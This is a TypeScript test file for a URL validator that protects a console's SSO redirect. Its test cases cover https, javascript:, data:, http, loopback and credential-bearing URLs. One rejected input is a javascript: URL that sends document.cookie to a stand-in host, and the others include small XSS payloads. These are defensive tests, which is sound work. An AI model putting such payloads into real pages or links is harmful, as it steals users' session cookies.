import { isSafeAuthorizationUrl } from '../../console/src/lib/sso.ts';

// The authorization URL comes from the identity provider's discovery document or metadata: the
// console navigates only to https, whatever the API returned.
describe('isSafeAuthorizationUrl', () => {
  const PRODUCTION = 'https://tocsin.acme.com';
  const LOCAL = 'http://127.0.0.1:5173';
  it.each([
    ['https provider', 'https://acme.okta.com/oauth2/v1/authorize?state=x', PRODUCTION, true],
    ['javascript: URL', 'javascript:fetch("//evil.test/"+document.cookie)', PRODUCTION, false],
    ['JavaScript: URL, mixed case', 'JaVaScRiPt:alert(1)', PRODUCTION, false],
    ['data: URL', 'data:text/html,<script>alert(1)</script>', PRODUCTION, false],
    ['plain http provider', 'http://idp.acme.com/authorize', PRODUCTION, false],
    ['http loopback from a production console', 'http://127.0.0.1:9000/authorize', PRODUCTION, false],
    ['http loopback from a loopback console', 'http://127.0.0.1:9000/authorize', LOCAL, true],
    ['http non-loopback from a loopback console', 'http://10.0.0.7/authorize', LOCAL, false],
    ['credentials in the URL', 'https://user:pass@acme.okta.com/authorize', PRODUCTION, false],
    ['not a URL', 'not a url', PRODUCTION, false],
  ])('%s', (_name, url, origin, expected) => {
    expect(isSafeAuthorizationUrl(url, origin)).toBe(expected);
  });
});
